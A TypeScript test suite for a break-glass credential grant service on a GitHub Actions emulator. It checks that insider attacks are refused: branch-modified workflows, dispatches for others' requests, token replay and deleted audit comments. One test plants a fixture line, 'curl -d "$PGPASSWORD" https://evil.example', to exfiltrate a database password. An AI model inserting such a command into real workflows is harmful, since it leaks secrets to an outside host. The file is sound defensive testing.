/**
 * Attack catalogue, credentials only to reviewed code: an insider with write access pushes a branch
 * with a changed grant workflow and dispatches it (GitHub then runs the branch's copy, and the job's
 * token names the branch), or dispatches the reviewed workflow on main for someone else's request.
 * Every run here is a real emulator run whose job is the real Action process, with the token GitHub
 * would give that job (ref, job_workflow_ref, actor, environment taken from the run).
 */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import type { WorkflowRun } from "../../src/sandbox/github/emulator.ts";
import { startSandbox, type Sandbox } from "../../src/sandbox/start-sandbox.ts";
import {
  approve,
  appTexts,
  assertNothingGranted,
  assertRefusedExchange,
  exchange,
  historyOf,
  openRequest,
  owner,
  repo,
} from "./attack-kit.ts";

let sb: Sandbox;
const guardrail = {
  resource: "model-guardrail-override",
  role: "override",
  duration: "30m",
  severity: "high",
} as const;
const GRANT = "breakglass-grant.yml";

before(async () => {
  // No runner picks runs up by itself: each test runs exactly the jobs it means to.
  sb = await startSandbox({ runWorkflows: false });
});
after(() => sb.close());

async function approvedRequest(requester: string): Promise<number> {
  const n = await openRequest(sb, requester, guardrail);
  await approve(sb, "grace", n);
  assert.equal((await historyOf(sb, n)).state.status, "approved");
  return n;
}
function runsFor(n: number): WorkflowRun[] {
  return [...sb.emulator.state.workflowRuns.values()].filter(
    (r) => r.path.endsWith(GRANT) && r.inputs.issue === String(n),
  );
}
async function dispatchAs(who: string, n: number, ref = "main"): Promise<WorkflowRun> {
  await sb.as(who).rest.actions.createWorkflowDispatch({
    owner,
    repo,
    workflow_id: GRANT,
    ref,
    inputs: { issue: String(n) },
  });
  return runsFor(n).at(-1)!;
}
const refusalsOf = async (n: number) =>
  (await historyOf(sb, n)).events.filter((e) => e.type === "exchange_refused");

test("A95 a writer's branch copy of the grant workflow, dispatched on the branch, gets nothing; the app's own run still gets the credential", async () => {
  const n = await approvedRequest("dave");
  const evil = readFileSync(`.github/workflows/${GRANT}`, "utf8").replace(
    "# Your emergency procedure goes here",
    'curl -d "$PGPASSWORD" https://evil.example',
  );
  sb.emulator.pushBranch("mallory", "fix-typo", { [`.github/workflows/${GRANT}`]: evil });
  const branchRun = await dispatchAs("mallory", n, "fix-typo");
  assert.equal(branchRun.ref, "refs/heads/fix-typo");
  const job = await sb.runJob(branchRun.id);
  assert.notEqual(job.exitCode, 0, "the branch's job fails");
  assert.match(job.stdout + job.stderr, /wrong_ref/);
  assert.deepEqual(
    Object.keys(job.env).filter((k) => /TOKEN|PASSWORD|SECRET/.test(k)),
    [],
    "nothing secret reached the branch's job",
  );
  await assertNothingGranted(sb, n, { allowRun: true });

  const [refusal] = await refusalsOf(n);
  assert.ok(refusal && refusal.type === "exchange_refused", "the refusal is in the request's signed records");
  assert.equal(refusal.code, "wrong_ref");
  assert.equal(refusal.actor, "mallory", "it names who started the run");
  assert.ok(
    (await appTexts(sb, n)).some(
      (t) => t.startsWith("🛑") && t.includes("`wrong_ref`") && t.includes("@mallory"),
    ),
    "and says so on the issue",
  );

  const appRun = runsFor(n).find((r) => r.actor.login === sb.appLogin)!;
  const granted = await sb.runJob(appRun.id);
  assert.equal(granted.exitCode, 0, granted.stderr);
  const state = (await historyOf(sb, n)).state;
  assert.equal(state.status, "active");
  assert.equal(
    state.grant?.run_id,
    `${appRun.id}/1`,
    "the grant went to the run the app dispatched and recorded",
  );
  assert.deepEqual(state.runs, [String(appRun.id)]);
});

test("A96 the reviewed workflow on main, dispatched by a writer who is not an approver for someone else's request, is refused unknown_run", async () => {
  const n = await approvedRequest("rita");
  const run = await dispatchAs("mallory", n);
  const job = await sb.runJob(run.id);
  assert.notEqual(job.exitCode, 0);
  assert.match(job.stdout + job.stderr, /unknown_run/);
  await assertNothingGranted(sb, n, { allowRun: true });
  assert.equal((await refusalsOf(n))[0]?.code, "unknown_run");
  assert.deepEqual((await historyOf(sb, n)).state.runs.length, 1, "only the app's own run is on record");
});

test("A97 a run an approver starts by hand on main is accepted and recorded as such; the requester's own run is not", async () => {
  const n = await approvedRequest("ivan");
  const byRequester = await sb.runJob((await dispatchAs("ivan", n)).id);
  assert.notEqual(byRequester.exitCode, 0);
  assert.match(byRequester.stdout + byRequester.stderr, /unknown_run/);
  const byApprover = await dispatchAs("heidi", n);
  const job = await sb.runJob(byApprover.id);
  assert.equal(job.exitCode, 0, job.stderr);
  const h = await historyOf(sb, n);
  assert.equal(h.state.grant?.run_id, `${byApprover.id}/1`);
  const accepted = h.events.find((e) => e.type === "dispatched" && e.run_id === String(byApprover.id));
  assert.ok(
    accepted && accepted.type === "dispatched" && accepted.by_hand === true && accepted.actor === "heidi",
    "recorded as started by hand by heidi",
  );
});

test("A98 the token of the run the app started for one request cannot collect another approved request", async () => {
  const first = await approvedRequest("olga");
  const second = await approvedRequest("carol");
  const run = runsFor(first).find((r) => r.actor.login === sb.appLogin)!;
  const token = await sb.issuer.mint({
    aud: "breakglass",
    repository: sb.repository,
    repository_id: String(sb.emulator.state.repository.id),
    repository_owner_id: String(sb.emulator.state.repository.owner.id),
    job_workflow_ref: `${sb.repository}/.github/workflows/${GRANT}@refs/heads/main`,
    ref: "refs/heads/main",
    run_id: String(run.id),
    run_attempt: "1",
    actor: sb.appLogin,
    event_name: "workflow_dispatch",
  });
  const answer = await exchange(sb, token, second);
  assertRefusedExchange(answer, 403, "unknown_run");
  assert.match(answer.body.message!, new RegExp(`started for #${first}, not for #${second}`));
  await assertNothingGranted(sb, second, { allowRun: true });
});

test("A99 a policy deleted between approval and exchange is a 409 refusal (policy_missing), never a 500", async () => {
  const n = await approvedRequest("sam");
  const path = "policies/model-guardrail-override.yml";
  const saved = sb.emulator.state.repository.files[path]!;
  sb.emulator.setFile(path, null);
  try {
    const run = runsFor(n).find((r) => r.actor.login === sb.appLogin)!;
    const job = await sb.runJob(run.id);
    assert.notEqual(job.exitCode, 0);
    assert.match(job.stdout + job.stderr, /policy_missing/);
    assert.equal((await refusalsOf(n))[0]?.code, "policy_missing");
  } finally {
    sb.emulator.setFile(path, saved);
  }
  await assertNothingGranted(sb, n, { allowRun: true });
});

test("A95b deleting the app's record of its dispatched run (GitHub lets any writer delete the app's comments) opens no door: the ledger still holds it, the comment is put back, the writer's runs are still refused, the app's run still collects", async () => {
  const n = await approvedRequest("bob");
  const appRun = runsFor(n).find((r) => r.actor.login === sb.appLogin)!;
  const comments = await sb
    .as("mallory")
    .paginate(sb.as("mallory").rest.issues.listComments, { owner, repo, issue_number: n, per_page: 100 });
  const record = comments.find((c) => c.user?.login === sb.appLogin && (c.body ?? "").startsWith("🏃"));
  assert.ok(record, "the app recorded the run it dispatched");
  await sb.as("mallory").rest.issues.deleteComment({ owner, repo, comment_id: record.id });
  await sb.settle();
  // The comment was only the ledger's mirror: the app still knows the run it dispatched, and puts the record back.
  assert.deepEqual(
    (await historyOf(sb, n)).state.runs,
    [String(appRun.id)],
    "the ledger still holds the dispatched run",
  );
  const after = await sb
    .as("mallory")
    .paginate(sb.as("mallory").rest.issues.listComments, { owner, repo, issue_number: n, per_page: 100 });
  assert.ok(
    after.some((c) => c.id !== record.id && c.user?.login === sb.appLogin && c.body === record.body),
    "the deleted record is posted again as it was",
  );

  sb.emulator.pushBranch("mallory", "after-delete", {});
  for (const run of [await dispatchAs("mallory", n, "after-delete"), await dispatchAs("mallory", n)]) {
    const job = await sb.runJob(run.id);
    assert.notEqual(job.exitCode, 0, `mallory's run on ${run.head_branch} gets nothing`);
    assert.match(job.stdout + job.stderr, /wrong_ref|unknown_run/);
  }
  await assertNothingGranted(sb, n, { allowRun: true });
  const granted = await sb.runJob(appRun.id);
  assert.equal(granted.exitCode, 0, granted.stderr);
  assert.equal(
    (await historyOf(sb, n)).state.grant?.run_id,
    `${appRun.id}/1`,
    "GitHub's own record of the run vouches for the app's run again",
  );
});
